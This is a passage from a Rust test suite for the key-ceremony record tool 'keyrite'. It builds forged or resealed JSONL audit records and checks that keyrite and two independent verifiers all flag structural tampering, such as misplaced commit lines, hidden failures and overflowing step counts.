            "the generated line's data does not fit a generated line: unknown field `note`, expected one of `label`, `id`, `spec`, `kcv`, `kcv_method`, `check_sha256`, `template`, `check_values`, `discarded`",
            "data.key has an unknown field \"note\"",
        ),
        (
            null,
            wrapped,
            "the wrapped line's data does not fit a wrapped line: invalid type: null, expected a string",
            "data.key_label is null, not a string",
        ),
    ];
    for (n, (v, line, reason, independent)) in cases.into_iter().enumerate() {
        // The line as the verifiers number it, from 1 (`line` indexes `v`).
        let number = line + 1;
        let file = path(&c, &format!("misfit-{n}.jsonl"));
        write_lines(&file, &pin_holder_reseal(&c.token, "ceremony-signer", &v));
        let outs = all_three(
            &file,
            &signer,
            Some(&policy),
            None,
            1,
            &format!("INVALID: structure check failed at line {number}: {reason} (exit 1)"),
        );
        let keyrite = stdout(&outs, 0);
        let step = v[line]["step"].as_str().unwrap();
        for check in ["chain", "seal"] {
            assert!(
                keyrite
                    .lines()
                    .any(|l| l.starts_with(&format!("  {check:<10} passed"))),
                "{check}: {keyrite}"
            );
        }
        for which in [1, 2] {
            let out = stdout(&outs, which);
            assert!(
                out.lines().any(|l| l.starts_with("chain      PASS")),
                "{}: {out}",
                VERIFIERS[which]
            );
            assert!(
                out.lines().any(|l| l
                    == format!("structure  FAIL        line {number} ({step}): {independent}")),
                "{}: {out}",
                VERIFIERS[which]
            );
        }
    }
}

/// serde reads a struct from a list of its values in order as well as from an object; keyrite
/// writes objects only, and a PIN holder who re-seals a line whose data (or a struct within it)
/// is such a list gets INVALID from all three verifiers, not a reading of nulls.
#[test]
fn data_written_as_a_list_of_its_values_is_invalid() {
    let c = sealed();
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let original = values(&c, "t.jsonl");
    let wrapped = at(&original, "wrapped");
    let generated = at(&original, "generated");
    // The values in the order the structs declare their fields, as serde reads a list (a
    // trailing field left out, as the writer leaves out an empty one, is its default).
    let as_list = |v: &Value, fields: &[&str]| {
        Value::Array(fields.iter().filter_map(|f| v.get(*f).cloned()).collect())
    };
    let mut whole = original.clone();
    whole[wrapped]["data"] = as_list(
        &original[wrapped]["data"],
        &[
            "index",
            "key_label",
            "kcv",
            "check_sha256",
            "out",
            "files",
            "warning",
        ],
    );
    let mut nested = original.clone();
    nested[generated]["data"]["key"] = as_list(
        &original[generated]["data"]["key"],
        &[
            "label",
            "id",
            "spec",
            "kcv",
            "kcv_method",
            "check_sha256",
            "template",
            "check_values",
            "discarded",
        ],
    );
    let cases = [
        (whole, wrapped, "data", "wrapped"),
        (nested, generated, "data.key", "generated"),
    ];
    for (n, (v, line, at_path, step)) in cases.into_iter().enumerate() {
        // The line as the verifiers number it, from 1 (`line` indexes `v`).
        let number = line + 1;
        let file = path(&c, &format!("list-{n}.jsonl"));
        write_lines(&file, &pin_holder_reseal(&c.token, "ceremony-signer", &v));
        let outs = all_three(
            &file,
            &signer,
            Some(&policy),
            None,
            1,
            &format!(
                "INVALID: structure check failed at line {number}: the {step} line's data does not fit a {step} line: {at_path} is a list where the line names its fields (exit 1)"
            ),
        );
        for which in [1, 2] {
            let out = stdout(&outs, which);
            let prefix = format!("structure  FAIL        line {number} ({step}): {at_path} is [");
            assert!(
                out.lines()
                    .any(|l| l.starts_with(&prefix) && l.ends_with(", not an object")),
                "{}: {out}",
                VERIFIERS[which]
            );
        }
    }
}

/// A batch rewritten by someone who holds the PIN (the seal is the token's own signature over
/// the edited chain): results before the commit, a commit that miscounts or misnames its steps,
/// a batch that announces fewer steps than it holds, the commit line dropped. keyrite's steps
/// check and the independent verifiers' structure checks name the same line; only they catch it.
#[test]
fn a_batch_rewritten_and_resealed_by_a_pin_holder_is_invalid_in_all_three() {
    let c = sealed();
    let original = values(&c, "t.jsonl");
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let (batch, commit, wrap, wrapped) = (
        at(&original, "batch"),
        at(&original, "commit"),
        at(&original, "wrap"),
        at(&original, "wrapped"),
    );
    assert!(batch < wrap && wrap < commit && commit < wrapped);
    // (what, the lines, the line every verifier names)
    let mut cases: Vec<(&str, Vec<Value>, usize)> = Vec::new();
    let mut v = original.clone();
    v.swap(commit, wrapped);
    cases.push(("the wrapped line before the commit", v, commit));
    let mut v = original.clone();
    v[commit]["data"]["outputs"] = json!(0);
    cases.push(("a commit of no outputs", v, commit));
    let mut v = original.clone();
    v[commit]["data"]["last"] = json!(0);
    cases.push(("a commit that stops short of its last step", v, commit));
    let mut v = original.clone();
    v[batch]["data"]["max_steps"] = json!(1);
    cases.push(("a batch of one step holding two", v, wrap));
    let mut v = original.clone();
    v.remove(commit);
    cases.push(("the commit line dropped", v, commit));
    for (n, (name, v, line)) in cases.into_iter().enumerate() {
        let number = line + 1;
        let lines = pin_holder_reseal(&c.token, "ceremony-signer", &v);
        let file = path(&c, &format!("batch-{n}.jsonl"));
        write_lines(&file, &lines);
        let outs = verifiers(&file, &signer, Some(&policy), None, &[]);
        for (verifier, out) in VERIFIERS.iter().zip(&outs) {
            assert_eq!(out.status.code(), Some(1), "{name}: {verifier}");
        }
        let keyrite = stdout(&outs, 0);
        assert!(
            verdict(&outs[0])
                .starts_with(&format!("INVALID: steps check failed at line {number}: ")),
            "{name}: {keyrite}"
        );
        chain_and_seal_hold(name, &keyrite);
        for which in [1, 2] {
            assert!(
                stdout(&outs, which).lines().any(|l| l
                    .starts_with(&format!("structure  FAIL        line {number} "))
                    || l.starts_with(&format!("structure  FAIL        line {number}:"))),
                "{name}: {}",
                stdout(&outs, which)
            );
        }
    }
}

/// The independent verifiers' batch rules on hand-built line sequences: every order the
/// format allows passes, every other is named by its line, and the two verifiers agree.
#[test]
fn the_independent_verifiers_batch_rules_pass_their_own_cases() {
    let out = run(Command::new(PYTHON).arg(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/independent/test_batches.py"
    )));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A plan whose last batch holds only generate steps (here: a plan of one generate step),
/// sealed with that batch's commit line dropped and re-sealed by a PIN holder. The format says a
/// batch with steps but no commit line before the finish line is an error (the Python and
/// openssl verifiers say so), but keyrite's steps check only looks for a missing commit line
/// when not every step has its result: a batch of generates has every result before its commit,
/// so `keyrite verify` says VERIFIED.
#[test]
fn a_batch_of_generates_without_its_commit_line_is_invalid_in_all_three() {
    let c = Ceremony::new(&[]);
    c.run_approved("t.jsonl");
    low_s_seal(&c.dir().join("t.jsonl"));
    let original = values(&c, "t.jsonl");
    let commit = at(&original, "commit");
    assert!(at(&original, "generated") < commit && commit < at(&original, "finish"));
    let mut v = original.clone();
    v.remove(commit);
    resealed_invalid_in_all_three(&c, "no-commit.jsonl", &v);
}

/// A PIN holder hides a batch's commit: the record is cut after the batch's wrap line, before
/// its commit line (which moved the output into place) and its wrapped line, and a failure of
/// that wrap step, a failed finish and a new seal put after it. The format says a step failing
/// inside a batch follows the batch's commit of the steps before it, and a failure line inside a
/// batch with steps but no commit line is an error (the Python and openssl verifiers say so);
/// keyrite's steps check stops reading at any failure line, and calls the forged record an
/// intact failed ceremony (exit 3).
#[test]
fn a_failure_line_inside_a_batch_before_its_commit_is_invalid_in_all_three() {
    let c = sealed();
    let original = values(&c, "t.jsonl");
    let (wrap, commit, finish) = (
        at(&original, "wrap"),
        at(&original, "commit"),
        at(&original, "finish"),
    );
    assert!(wrap < commit && commit < finish);
    let index = original[wrap]["data"]["index"].clone();
    let mut v: Vec<Value> = original[..commit].to_vec();
    v.push(line(
        "failure",
        "keyrite",
        json!({"index": index, "action": "wrap", "error": "C_WrapKey returned CKR_GENERAL_ERROR"}),
    ));
    let mut end = original[finish].clone();
    end["data"]["outcome"] = json!("failed");
    end["data"]["failure"] =
        json!({"step": index, "error": "C_WrapKey returned CKR_GENERAL_ERROR"});
    v.push(end);
    v.push(original.last().unwrap().clone());
    resealed_invalid_in_all_three(&c, "hidden-commit.jsonl", &v);
}

/// A batch line of a sealed record (the second batch of a run with `--batch-steps 1`, from
/// steps[1]) rewritten by a PIN holder to announce 2^64 - 1 steps, which its data's type allows:
/// keyrite's steps check adds `first + max_steps` without a bound, and panics (overflow) instead
/// of giving a verdict; the independent verifiers read the batch as announcing every step after.
#[test]
fn a_batch_of_the_most_steps_its_type_holds_gets_a_verdict_in_all_three() {
    let c = Ceremony::approved(&["us-east-1"]);
    let out = run(c.run_command("t.jsonl").args(["--batch-steps", "1"]));
    assert!(out.status.success(), "{out:?}");
    low_s_seal(&c.dir().join("t.jsonl"));
    let original = values(&c, "t.jsonl");
    let (signer, policy) = (path(&c, "signer.pem"), path(&c, "policy.toml"));
    let second = original
        .iter()
        .position(|v| v["step"] == "batch" && v["data"]["first"] == 1)
        .unwrap();
    let mut v = original.clone();
    v[second]["data"]["max_steps"] = json!(u64::MAX);
    let lines = pin_holder_reseal(&c.token, "ceremony-signer", &v);
    let file = path(&c, "huge-batch.jsonl");
    write_lines(&file, &lines);
    let outs = verifiers(&file, &signer, Some(&policy), None, &[]);
    let codes: Vec<Option<i32>> = outs.iter().map(|o| o.status.code()).collect();
    assert_eq!(
        codes,
        [Some(0); 3],
        "{VERIFIERS:?}: keyrite says {}{}",
        verdict(&outs[0]),
        String::from_utf8_lossy(&outs[0].stderr)
    );
}

/// A PIN holder hides a wrap whose output is in place: in a batch of a key and two wraps, the
/// record is cut after the commit line (both outputs moved) and a failure of the second wrap's
/// move put after it, so the first wrap's `wrapped` line — the record of its output — is gone
/// while the record says every step before steps[2] ran. The format puts a failure after a
/// commit only at the next result due (the commit round failed: the batch's first wrap; a move
/// failed: the wrap whose move failed, after the wrapped lines of those before it); each
/// verifier took a failure line at any index there, calling the record an intact failed
/// ceremony.
#[test]
fn a_failure_after_a_commit_that_skips_a_due_result_is_invalid_in_all_three() {
    let c = Ceremony::approved(&["us-east-1", "eu-west-1"]);
    let out = run(c.run_command("t.jsonl").args(["--batch-ms", "600000"]));
    assert!(out.status.success(), "{out:?}");
    low_s_seal(&c.dir().join("t.jsonl"));
    let original = values(&c, "t.jsonl");
    let (commit, finish) = (at(&original, "commit"), at(&original, "finish"));
    assert_eq!(original[commit]["data"]["outputs"], 2);
    assert_eq!(original[commit + 1]["data"]["index"], 1);
    let error = "cannot move the output into place: it exists";
    let mut v: Vec<Value> = original[..=commit].to_vec();
    v.push(line(
        "failure",
        "keyrite",
        json!({"index": 2, "action": "wrap", "error": error}),
    ));
    let mut end = original[finish].clone();
    end["data"]["outcome"] = json!("failed");
    end["data"]["failure"] = json!({"step": 2, "error": error});
    v.push(end);
    v.push(original.last().unwrap().clone());
    resealed_invalid_in_all_three(&c, "skipped-result.jsonl", &v);
}
